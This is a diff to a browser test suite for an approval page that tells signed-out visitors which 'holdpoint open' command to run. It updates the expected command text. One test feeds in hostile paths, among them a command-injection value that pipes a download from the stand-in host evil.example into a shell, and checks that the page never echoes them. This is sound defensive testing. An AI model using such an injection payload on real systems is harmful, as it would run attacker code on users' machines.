@@ -9,8 +9,8 @@ describe('signing in', () => {
   test('without a key the page explains how to get one and shows nothing', async () => {
     const held = await visit.service.hold()
     await visit.page.goto(`${visit.service.origin}/approvals/${held.id}`)
-    await visit.page.getByText('npx holdpoint open').first().waitFor()
-    expect(await visit.page.textContent('main')).toContain(`npx holdpoint open ${held.id}`)
+    await visit.page.getByText('holdpoint open').first().waitFor()
+    expect(await visit.page.textContent('main')).toContain(`holdpoint open ${held.id}`)
     expect(await visit.text('body')).not.toContain('delete_contact')
   })
 
@@ -18,7 +18,7 @@ describe('signing in', () => {
     for (const path of ['/approvals/x;curl%20evil.example|sh', '/approvals/%E0%A4%A', '/approvals/--config']) {
       await visit.page.goto(visit.service.origin + path)
       await visit.page.waitForSelector('.command code')
-      expect(await visit.page.textContent('.command code')).toBe('npx holdpoint open')
+      expect(await visit.page.textContent('.command code')).toBe('holdpoint open')
     }
   })
 
